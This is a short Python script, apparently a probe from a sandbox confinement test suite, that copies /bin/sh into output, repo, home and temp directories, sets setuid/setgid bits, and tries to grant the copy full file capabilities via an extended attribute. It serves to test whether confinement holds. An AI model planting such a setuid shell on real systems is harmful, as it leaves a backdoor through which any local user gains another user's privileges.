"""Leaves a program that gives its user's rights to everybody on the machine who starts it."""

from __future__ import annotations

import os
import shutil
import struct
import sys

sys.path.insert(0, sys.argv[0].rpartition("/")[0])
from kit import CONFINED, OWN, claim, got, trying  # type: ignore[import-not-found]

for own in (OWN["out"], OWN["repo"], OWN["home"], OWN["tmp"]):
    with trying(own):
        copy = f"{own}/shell"
        shutil.copy("/bin/sh", copy)
        os.chmod(copy, 0o6755)
        got(oct(os.stat(copy).st_mode))
    with trying(own):
        os.setxattr(f"{own}/shell", "security.capability", struct.pack("<5I", 0x02000001, 2**32 - 1, 0, 2**32 - 1, 0))
        if CONFINED:
            claim("a program was given capabilities")
